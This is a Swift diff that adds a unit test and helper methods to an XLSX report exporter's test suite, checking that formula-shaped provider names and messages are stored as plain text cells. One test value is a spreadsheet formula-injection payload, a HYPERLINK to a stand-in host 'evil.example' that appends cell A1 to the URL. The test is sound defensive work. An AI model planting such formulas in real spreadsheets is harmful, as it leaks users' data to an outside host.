@@ -230,6 +230,41 @@ final class CentralizerXLSXTests: XCTestCase {
         XCTAssertEqual(try book.sheet("Erori").lastRow, 3001, "the Erori sheet has every error")
     }
 
+    /// A provider name or convention number shaped like a formula lands as a string cell: no
+    /// `<f>` element in any sheet, the text itself in the shared strings (libxlsxwriter keeps it so).
+    func testFormulaShapedTextStaysText() throws {
+        let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"
+        let c = Centralizer(casa: "TM", luna: YearMonth(year: 2026, month: 10)!, asOf: Self.asOf, months: [
+            ProviderMonth(provider: Self.provider("31001235", hyperlink, "+1"), hasRegisteredInitial: true,
+                          certificates: 1, certificatesWithErrors: 1,
+                          errors: [CertificateErrorLine(serie: "CCMAM", numar: "4400100", code: "C01", message: "@SUM(A1:A9)")],
+                          lastReport: Self.reportedAt, observations: ["-1+1"]),
+            ProviderMonth(provider: Self.provider("42005674", "@A1", "=1+1"), hasRegisteredInitial: false,
+                          certificates: 0, certificatesWithErrors: 0, errors: [], lastReport: nil, observations: []),
+        ])
+        let path = folder.appendingPathComponent("formule.xlsx").path
+        try CentralizerXLSX.write(c, to: path)
+        let book = try XLSXBook(path)
+        for name in book.sheetNames {
+            let xml = try book.sheetXML(name)
+            XCTAssertEqual(xml.all("f").count, 0, "a formula in sheet \(name)")
+            for cell in xml.all("c") where cell.first("v") != nil || cell.first("is") != nil {
+                let text = cell.first("v")?.text ?? ""
+                if Double(text) == nil || cell.attrs["t"] != nil {
+                    XCTAssertTrue(["s", "inlineStr"].contains(cell.attrs["t"] ?? ""), "cell \(cell.attrs) is not a string")
+                }
+            }
+        }
+        let main = try book.sheet("Centralizator")
+        let rows = (4...5).map { main.rowStrings($0, columns: 10) }
+        XCTAssertEqual(rows.first { $0[1] == "31001235" }?[2], hyperlink)
+        XCTAssertEqual(rows.first { $0[1] == "31001235" }?[3], "+1")
+        XCTAssertEqual(rows.first { $0[1] == "42005674" }?[2], "@A1")
+        XCTAssertEqual(rows.first { $0[1] == "42005674" }?[3], "=1+1")
+        XCTAssertTrue(book.sharedStrings.contains(hyperlink))
+        XCTAssertTrue(try book.sheet("Erori").rowStrings(2, columns: 6).contains { $0.contains("@SUM(A1:A9)") })
+    }
+
     // MARK: - Helpers
 
     /// Excel's serial date (days since 1899-12-30) of the Bucharest wall-clock time of an instant.
@@ -308,6 +343,14 @@ fileprivate struct XLSXBook {
         shared = (try? Self.part(path, "xl/sharedStrings.xml"))?.all("si").map { $0.all("t").map(\.text).joined() } ?? []
         styles = try? Self.part(path, "xl/styles.xml")
     }
+
+    /// The sheet's own XML, to see how each cell is typed.
+    func sheetXML(_ name: String) throws -> XLSXNode {
+        guard let file = sheetFiles[name] else { throw XLSXReadError("no sheet \(name) in \(sheetNames)") }
+        return try Self.part(path, file)
+    }
+
+    var sharedStrings: [String] { shared }
 
     func sheet(_ name: String) throws -> XLSXSheet {
         guard let file = sheetFiles[name] else { throw XLSXReadError("no sheet \(name) in \(sheetNames)") }
